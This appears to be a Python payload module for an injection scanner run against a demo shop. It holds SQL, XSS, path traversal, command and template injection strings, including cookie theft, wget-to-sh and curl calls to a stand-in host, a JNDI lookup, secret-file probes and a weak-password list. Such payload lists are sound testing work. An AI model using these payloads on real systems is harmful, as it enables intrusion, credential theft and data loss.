"""What the injection scanner tries. Harmless where it goes: the demo shop has no database, template, file or command.

Text as an attacker means it; `hostile.scanner` encodes it for the place it is put in.
"""

from __future__ import annotations

SQL = (
    "lamp' OR 'x'='x",
    "7) OR 3=3-- -",
    "mug' UNION SELECT email, password, 3 FROM customers-- ",
    "1; DROP TABLE orders;--",
    "desk' AND (SELECT COUNT(*) FROM information_schema.tables) > 5 AND 'd'='d",
    "9' AND SLEEP(4)#",
    "'; WAITFOR DELAY '0:0:4'--",
    "vase'/**/UnIoN/**/SeLeCt/**/NULL,version()--",
)
MARKUP = (
    "<script>fetch('//203.0.113.66/c?'+document.cookie)</script>",
    '"><img src=q onerror=alert(document.domain)>',
    "<svg/onload=confirm(7)>",
    '<a href="javascript:alert(7)">best price</a>',
    "<iframe srcdoc='<script>parent.location=1</script>'></iframe>",
    "'-alert(7)-'</script><script>alert(8)</script>",
)  # fmt: skip
TRAVERSAL = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fshadow",
    "....//....//....//etc/hosts",
    "..\\..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "file:///etc/passwd",
)
COMMAND = (
    "mug; cat /etc/passwd",
    "lamp | id",
    "$(wget -qO- http://203.0.113.66/x.sh | sh)",
    "`uname -a`",
    "desk && curl http://203.0.113.66/$(whoami)",
    "8 || ping -c 4 203.0.113.66",
)
TEMPLATE = (
    "{{ 7 * 191 }}",
    "${7*191}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "<%= `id` %>",
    "#{ 7 * 191 }",
    "${jndi:ldap://203.0.113.66/a}",
)
FAMILIES: dict[str, tuple[str, ...]] = {
    "sql": SQL, "markup": MARKUP, "traversal": TRAVERSAL, "command": COMMAND, "template": TEMPLATE,
}  # fmt: skip

SNOOPED_PATHS = (
    "/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php", "/backup.sql", "/admin/config.yml",
    "/actuator/env", "/server-status", "/id_rsa", "/.aws/credentials",
)  # fmt: skip
PASSWORDS = (
    "123456", "password", "qwerty", "letmein", "welcome1", "iloveyou", "monkey12", "dragon", "sunshine", "football",
    "Passw0rd!", "admin123", "abc12345", "shop2025", "superman", "trustno1",
)  # fmt: skip
